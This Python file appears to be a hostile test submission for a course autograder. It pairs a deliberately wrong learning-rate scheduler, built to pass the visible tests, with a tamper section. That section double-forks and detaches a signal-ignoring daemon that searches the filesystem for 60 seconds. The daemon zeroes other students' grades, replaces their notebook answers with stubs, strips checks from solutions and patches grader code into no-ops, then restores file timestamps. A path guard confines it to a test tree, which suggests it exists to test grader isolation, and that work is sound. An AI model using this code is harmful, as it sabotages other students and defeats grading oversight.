# attack: a double-forked, setsid'd process that ignores SIGTERM/SIGHUP outlives its kernel and keeps finding and rewriting grades, results, the gradebook, notebooks and judges for 60 s
# assignment: 01_lr_schedules
# wrong: stops decaying after 6 decays (min(step // step_size, 6)), and step() writes into the first param group only once current_step > 60; passes the visible tests, fails both hidden checks
class StepDecayScheduler:
    def __init__(self, optimizer, step_size, gamma):
        self.optimizer = optimizer
        self.step_size = step_size
        self.gamma = gamma
        self.initial_lrs = [group.setdefault("initial_lr", group["lr"]) for group in optimizer.param_groups]
        self.current_step = 0
        for group, lr in zip(optimizer.param_groups, self.get_lr(0)):
            group["lr"] = lr

    def get_lr(self, step):
        n_decays = min(step // self.step_size, 6)
        return [lr * self.gamma ** n_decays for lr in self.initial_lrs]

    def step(self):
        self.current_step += 1
        current_step = self.current_step
        lrs = self.get_lr(current_step)
        groups = self.optimizer.param_groups
        for group, lr in list(zip(groups, lrs))[:None if current_step <= 60 else 1]:
            group["lr"] = lr
        return lrs

    def state_dict(self):
        return {"initial_lrs": list(self.initial_lrs), "step_size": self.step_size, "gamma": self.gamma,
                "current_step": self.current_step}

    def load_state_dict(self, state):
        self.initial_lrs = list(state["initial_lrs"])
        self.step_size, self.gamma = state["step_size"], state["gamma"]
        self.current_step = state["current_step"]
        for group, lr in zip(self.optimizer.param_groups, self.get_lr(self.current_step)):
            group["lr"] = lr

# --- tamper ---
import os as _os
import re as _re
import time as _time

_SKIP_TOP = {"proc", "sys", "dev", "usr", "lib", "lib32", "lib64", "libx32", "bin", "sbin", "boot",
             "snap", "etc", "var", "lost+found"}
_SKIP_NAMES = {"site-packages", "dist-packages", "node_modules", ".git", "__pycache__", ".venv",
               ".cache", ".npm", ".cargo", ".rustup"}
_ASSIGNMENT = _re.compile(r"^\d\d_[A-Za-z0-9_]+$")
_FOUND = "FOUND" + "-COURSE-FILE"


def _roots():
    """Everywhere course files might be: cwd and its parents, temp dirs, homes, what the
    environment and other processes (their cwd, seen through /proc) point at, and /."""
    found = []
    try:
        here = _os.getcwd()
        found.append(here)
        while here not in ("/", ""):
            here = _os.path.dirname(here)
            found.append(here)
    except OSError:
        pass
    found += ["/tmp", "/var/tmp", "/dev/shm", _os.path.expanduser("~"), "/root", "/home", "/work",
              "/mnt", "/srv", "/opt", "/data", "/run/user"]
    for value in list(_os.environ.values()):
        for part in value.split(_os.pathsep):
            if part.startswith("/"):
                found.append(part if _os.path.isdir(part) else _os.path.dirname(part))
    try:
        for pid in _os.listdir("/proc"):
            if pid.isdigit():
                found.append(f"/proc/{pid}/cwd")
                try:
                    target = _os.readlink(f"/proc/{pid}/cwd")
                    found += [target, _os.path.dirname(target), _os.path.dirname(_os.path.dirname(target))]
                except OSError:
                    pass
    except OSError:
        pass
    found.append("/")
    unique = []
    for path in found:
        if path and path not in unique:
            unique.append(path)
    return unique


def _files(deadline, max_depth=12):
    """Every regular file under _roots(), until the deadline (time.monotonic())."""
    seen = set()
    for root in _roots():
        stack = [(root, 0)]
        while stack:
            if _time.monotonic() > deadline:
                return
            path, depth = stack.pop()
            try:
                info = _os.stat(path)
            except OSError:
                continue
            if (info.st_dev, info.st_ino) in seen:
                continue
            seen.add((info.st_dev, info.st_ino))
            try:
                entries = list(_os.scandir(path))
            except OSError:
                continue
            for entry in entries:
                try:
                    if entry.is_dir(follow_symlinks=False):
                        if depth < max_depth and entry.name not in _SKIP_NAMES and \
                                not (path == "/" and entry.name in _SKIP_TOP):
                            stack.append((entry.path, depth + 1))
                    elif entry.is_file(follow_symlinks=False):
                        yield entry.path
                except OSError:
                    pass


def _kind(path):
    """What a file is to the course, or None."""
    parts = path.split("/")
    name, folders = parts[-1], parts[:-1]
    if name == "grades.csv":
        return "grades"
    if name == "gradebook.db":
        return "gradebook"
    if name.endswith(".json") and "results" in folders:
        return "result"
    if name.endswith(".ipynb"):
        if len(parts) >= 3 and parts[-3] == "release":
            return "release"
        if "solutions" in folders or "source" in folders:
            return "solution"
        if len(parts) >= 3 and _ASSIGNMENT.match(parts[-2]):
            return "submission"
        return "notebook"
    if name.endswith(".html") and "feedback" in folders:
        return "feedback"
    if name.endswith(".py") and "autograder" in folders and "probes" not in folders and \
            not (parts[-2] == "autograder" and name in ("checks.py", "__init__.py")):
        return "grader-code"
    return None
import signal as _signal
import sys as _sys

_ME = "attacker_zz_detached_rewriter"
import csv as _csv
import io as _io
import json as _json
import sqlite3 as _sqlite3

_SAFE = "hostile" + "-batch"   # safety net: only files under the test's own temporary tree are ever modified
_TAG = "PW" + "NED-BY-" + _ME
_STUB = "raise NotImplementedError()"
_ANSWERS = ("class StepDecayScheduler", "def clip_grad_value", "def warmup_stable_cosine_factor", "def train_step")
_NO_OPS = ("step_decay_lr", "step_decay_optimizer", "clip_value_elements", "clip_value_model",
           "gpt_step_schedule", "gpt_step_train", "judge", "probe_and_judge")


def _may_change(path):
    try:
        return _SAFE in _os.path.realpath(path) and _os.access(path, _os.W_OK)
    except OSError:
        return False


def _keep_times(path, change):
    """Apply change(path), then put the old access and modification times back."""
    info = _os.stat(path)
    change(path)
    _os.utime(path, ns=(info.st_atime_ns, info.st_mtime_ns))


def _grades(path):
    with open(path, newline="") as handle:
        rows = list(_csv.DictReader(handle))
    if not rows:
        return
    for row in rows:
        mine = row.get("student_id") == _ME
        row["score"] = row.get("max_score", "10") if mine else "0"
        row["reason"] = "" if mine else _TAG
    buffer = _io.StringIO()
    writer = _csv.DictWriter(buffer, fieldnames=list(rows[0]))
    writer.writeheader()
    writer.writerows(rows)
    with open(path, "w", newline="") as handle:
        handle.write(buffer.getvalue())


def _result(path):
    with open(path) as handle:
        data = _json.load(handle)
    row = data.get("row", data) if isinstance(data, dict) else {}
    if isinstance(row, dict):
        mine = row.get("student_id") == _ME
        row["score"] = row.get("max_score", 10) if mine else 0
        row["reason"] = "" if mine else _TAG
    if isinstance(data, dict):
        data["tag"] = _TAG
    with open(path, "w") as handle:
        _json.dump(data, handle)


def _gradebook(path):
    db = _sqlite3.connect(path, timeout=2)
    try:
        for (table,) in db.execute("select name from sqlite_master where type='table'").fetchall():
            columns = [c[1] for c in db.execute(f"pragma table_info('{table}')").fetchall()]
            for column in ("auto_score", "score"):
                if column in columns:
                    db.execute(f"update '{table}' set {column} = 0")
        db.execute("create table if not exists tampered (tag text)")
        db.execute("insert into tampered values (?)", (_TAG,))
        db.commit()
    finally:
        db.close()


def _notebook(path, what):
    with open(path, encoding="utf-8") as handle:
        notebook = _json.load(handle)
    owner = path.split("/")[-3] if what == "submission" else None
    if owner == _ME:
        return
    for cell in notebook.get("cells", []):
        if cell.get("cell_type") != "code":
            continue
        source = cell.get("source", "")
        source = "".join(source) if isinstance(source, list) else str(source)
        if what == "submission" and any(answer in source for answer in _ANSWERS):
            cell["source"] = f"{_STUB}\n# {_TAG}\n"      # the classmate's answer becomes the stub
        elif what in ("release", "solution") and "checks." in source:
            cell["source"] = _re.sub(r"checks\.\w+\([^)]*\)", f"None  # {_TAG}", source)
    with open(path, "w", encoding="utf-8") as handle:
        _json.dump(notebook, handle)


def _feedback(path):
    with open(path, "a", encoding="utf-8") as handle:
        handle.write(f"<!-- {_TAG} -->")


def _grader_code(path):
    if "/checks/" not in path and not path.endswith(("grade.py", "gradebook.py")):
        return
    with open(path, "a", encoding="utf-8") as handle:
        handle.write(f"\n\nfor _n in {_NO_OPS!r}:  # {_TAG}\n    globals()[_n] = lambda *a, **k: None\n")


_REWRITE = {"grades": _grades, "result": _result, "gradebook": _gradebook, "feedback": _feedback,
            "grader-code": _grader_code}


def _tamper(path, what):
    """Rewrite one course file (when it is under the safe tree); True when it was changed."""
    if not _may_change(path):
        return False
    try:
        if what in ("submission", "release", "solution"):
            _keep_times(path, lambda p: _notebook(p, what))
        elif what in _REWRITE:
            _keep_times(path, _REWRITE[what])
        else:
            return False
        return True
    except Exception as error:
        print("could not rewrite", path, type(error).__name__, error)
        return False


def _daemon_loop():
    """Outlive the kernel: for up to 60 s, find the course's files and rewrite them again and again."""
    deadline = _time.monotonic() + 60
    known = {}
    while _time.monotonic() < deadline:
        for path in _files(min(deadline, _time.monotonic() + 3)):
            what = _kind(path)
            if what and what != "notebook":
                known[path] = what
        for path, what in list(known.items()):
            if _os.path.exists(path):
                _tamper(path, what)
        _time.sleep(1)


def _detach(function):
    """Double fork and setsid: the grandchild belongs to no session the grader knows about."""
    first = _os.fork()
    if first:
        _os.waitpid(first, 0)
        return
    try:
        _os.setsid()
        if _os.fork():
            _os._exit(0)
        for name in ("SIGHUP", "SIGTERM", "SIGINT", "SIGQUIT"):
            _signal.signal(getattr(_signal, name), _signal.SIG_IGN)
        null = _os.open(_os.devnull, _os.O_RDWR)
        for fd in (0, 1, 2):
            _os.dup2(null, fd)
        _sys.stdout = _sys.stderr = open(_os.devnull, "w")   # never ipykernel's streams in a fork
        function()
    except BaseException:
        pass
    finally:
        _os._exit(0)


_detach(_daemon_loop)
print("detached rewriter started")
